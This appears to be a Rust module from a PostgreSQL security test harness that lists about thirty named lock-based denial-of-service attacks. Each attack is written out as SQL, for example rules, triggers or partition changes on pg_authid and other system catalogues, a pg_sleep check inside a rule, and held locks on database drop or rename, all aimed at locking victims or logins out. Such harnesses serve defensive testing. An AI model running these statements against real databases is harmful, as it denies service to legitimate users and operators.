//! To lock the victim out by locks that PostgreSQL takes before it checks who asks.
//!
//! Names of catalogues are written with their schema: what is not there must not be what is meant.

use crate::{
    attack::{ALL, Act, Attack, Class::Block, LOGINS, ROWS, SCHEMA, TOGETHER},
    queue::{
        Queue,
        Victim::{self, Comes, Operator, Says},
    },
};

/// Every login reads it, and anybody may read the view.
const READ_ROLES: &str = "begin; select count(*) from pg_catalog.pg_roles";

/// A table that is the attacker's own.
const GATE: &[&str] = &[
    "create table gate (a int)",
    "create table public.gate (a int)",
];
const SHUT_GATE: &str = "begin; lock table gate in access exclusive mode";

/// What the planner locks, a transaction keeps: the indexes, too.
const READ_INDEX_OF_ROLES: &str = "begin; set local enable_seqscan = off; select count(*) from pg_catalog.pg_roles where oid = 10";

/// A lock on a database that is anybody's to have: it is kept, where who comes takes it for a moment.
const HOLD_DATABASE: &str = "begin; alter role current_user in database {db} set work_mem = '1MB'";

const UPDATE: Victim = Says(&["update accounts set secret = secret where id = 1"]);
const CHANGE_SETTINGS: Victim = Says(&[
    "alter role current_user set app.held = 'x'",
    "alter role current_user reset app.held",
]);

/// Who only waits behind others of the attacker's sessions.
const fn queue(sessions: &'static [&'static str], victim: Victim) -> Act {
    queue_after(&[], sessions, victim)
}

const fn queue_after(
    before: &'static [&'static str],
    sessions: &'static [&'static str],
    victim: Victim,
) -> Act {
    Act::Queue(Queue {
        before,
        sessions,
        victim,
    })
}

/// See the head of this file.
pub const ATTACKS: &[Attack] = &[
    Attack::new(
        "queue_rule_on_roles",
        Block,
        ALL,
        queue(
            &[
                READ_ROLES,
                "create rule held as on insert to pg_catalog.pg_authid do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_rule_on_databases",
        Block,
        ALL,
        queue(
            &[
                "begin; prepare held as select from pg_catalog.pg_database",
                "create rule held as on insert to pg_catalog.pg_database do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_rule_on_settings",
        Block,
        ALL,
        queue(
            &[
                "begin; prepare held as select from pg_catalog.pg_db_role_setting",
                "create rule held as on insert to pg_catalog.pg_db_role_setting do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_rule_on_relations",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; prepare held as select from pg_catalog.pg_class",
                "create rule held as on insert to pg_catalog.pg_class do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_rule_on_functions",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; prepare held as select from pg_catalog.pg_proc",
                "create rule held as on insert to pg_catalog.pg_proc do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_rule_on_types",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; prepare held as select from pg_catalog.pg_type",
                "create rule held as on insert to pg_catalog.pg_type do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_rule",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; prepare held as select from {shown}",
                "create rule held as on insert to {shown} do nothing",
            ],
            Says(&["select count(*) from accounts"]),
        ),
    ),
    // What may be deleted through a view may be locked there; it fails at the table below.
    Attack::new(
        "queue_lock",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; select count(*) from accounts",
                "begin; lock table accounts in access exclusive mode",
            ],
            Says(&["select count(*) from accounts"]),
        ),
    ),
    Attack::new(
        "queue_trigger",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; prepare held as delete from {shown}",
                "create trigger held before insert on {shown} for each statement \
                    execute function suppress_redundant_updates_trigger()",
            ],
            UPDATE,
        ),
    ),
    Attack::new(
        "queue_reference",
        Block,
        TOGETHER,
        queue(
            &[
                "begin; prepare held as delete from {shown}",
                "create temp table held (a bigint references {shown})",
            ],
            UPDATE,
        ),
    ),
    Attack::new(
        "queue_trigger_on_settings",
        Block,
        LOGINS,
        queue(
            &[
                "begin; prepare held as delete from pg_catalog.pg_db_role_setting",
                "create trigger held before insert on pg_catalog.pg_db_role_setting for each row \
                    execute function suppress_redundant_updates_trigger()",
            ],
            CHANGE_SETTINGS,
        ),
    ),
    Attack::new(
        "queue_reference_to_settings",
        Block,
        LOGINS,
        queue(
            &[
                "begin; prepare held as delete from pg_catalog.pg_db_role_setting",
                "create temp table held (a oid references pg_catalog.pg_db_role_setting)",
            ],
            CHANGE_SETTINGS,
        ),
    ),
    Attack::new(
        "queue_attach",
        Block,
        ALL,
        queue(
            &[
                READ_ROLES,
                "create temp table wide (a oid) partition by list (a); \
                    alter table wide attach partition pg_catalog.pg_authid default",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_detach",
        Block,
        ALL,
        queue(
            &[
                READ_ROLES,
                "create temp table wide (a oid) partition by list (a); \
                    alter table wide detach partition pg_catalog.pg_authid",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_partition",
        Block,
        ALL,
        queue(
            &[
                READ_ROLES,
                "create temp table slice partition of pg_catalog.pg_authid default",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_index",
        Block,
        ALL,
        queue(
            &[
                READ_INDEX_OF_ROLES,
                "alter index pg_catalog.pg_authid_oid_index depends on extension plpgsql",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "queue_attach_index",
        Block,
        ALL,
        queue(
            &[
                READ_INDEX_OF_ROLES,
                "create temp table wide (a oid) partition by list (a); create index wide_a on wide (a); \
                    alter index wide_a attach partition pg_catalog.pg_authid_oid_index",
            ],
            Comes,
        ),
    ),
    // The lock is there while the rule is looked at, and who asks is looked at only afterwards.
    Attack::new(
        "hold_rule_by_own_table",
        Block,
        ALL,
        queue_after(
            GATE,
            &[
                SHUT_GATE,
                "create rule held as on insert to pg_catalog.pg_authid do also select * from gate",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "hold_rule_by_domain",
        Block,
        ALL,
        queue(
            &[
                "create domain pg_temp.slow as int check (pg_sleep(600) is not null); \
                create rule held as on insert to pg_catalog.pg_authid \
                    where '{1}'::pg_temp.slow[] is not null do nothing",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "hold_rule_by_chain",
        Block,
        ALL,
        queue(
            &[
                "begin; prepare held as select from pg_catalog.pg_language",
                "create rule held as on insert to pg_catalog.pg_language do nothing",
                "create rule held as on insert to pg_catalog.pg_authid \
                    do also select 1 from pg_catalog.pg_language",
            ],
            Comes,
        ),
    ),
    Attack::new(
        "hold_trigger_by_own_table",
        Block,
        TOGETHER,
        queue_after(
            GATE,
            &[
                SHUT_GATE,
                "create constraint trigger held after insert on {table} from gate \
                    for each row execute function suppress_redundant_updates_trigger()",
            ],
            UPDATE,
        ),
    ),
    Attack::new(
        "queue_drop_database",
        Block,
        ALL,
        queue(&[HOLD_DATABASE, "drop database {db}"], Comes),
    ),
    Attack::new(
        "queue_rename_database",
        Block,
        ALL,
        queue(
            &[HOLD_DATABASE, "alter database {db} rename to {db}x"],
            Comes,
        ),
    ),
    Attack::new(
        "queue_move_database",
        Block,
        ALL,
        queue(
            &[
                HOLD_DATABASE,
                "alter database {db} set tablespace pg_default",
            ],
            Comes,
        ),
    ),
    // What is not waited for, but had.
    Attack::new(
        "hold_extension",
        Block,
        SCHEMA,
        queue_after(
            &["create function leaning() returns int language sql as 'select 1'"],
            &["begin; alter function leaning() depends on extension plpgsql"],
            Says(&[
                "alter function whisper() depends on extension plpgsql",
                "alter function whisper() no depends on extension plpgsql",
            ]),
        ),
    ),
    Attack::new(
        "hold_by_prepare",
        Block,
        SCHEMA,
        queue(
            &["begin; prepare held as delete from {table}"],
            Says(&[
                "create index held_up on accounts (secret)",
                "drop index held_up",
            ]),
        ),
    )
    .residual_of_reader("R5"),
    Attack::new(
        "hold_schema_name",
        Block,
        TOGETHER,
        queue(
            &["begin; create schema wanted"],
            Says(&["create schema wanted", "drop schema wanted"]),
        ),
    ),
    Attack::new(
        "hold_large_object",
        Block,
        TOGETHER,
        queue(
            &["begin; select lo_create({lock})"],
            Says(&["select lo_create({lock})", "select lo_unlink({lock})"]),
        ),
    ),
    // Who may not grant is only warned, and the row is updated all the same.
    Attack::new(
        "hold_grant_on_database",
        Block,
        TOGETHER,
        queue(
            &["begin; grant connect on database {db} to current_user"],
            Operator("grant connect on database {db} to {role}"),
        ),
    ),
    Attack::new(
        "hold_grant_on_schema",
        Block,
        ROWS,
        queue(
            &["begin; grant usage on schema app to current_user"],
            Operator("grant usage on schema app to {role}"),
        ),
    ),
];
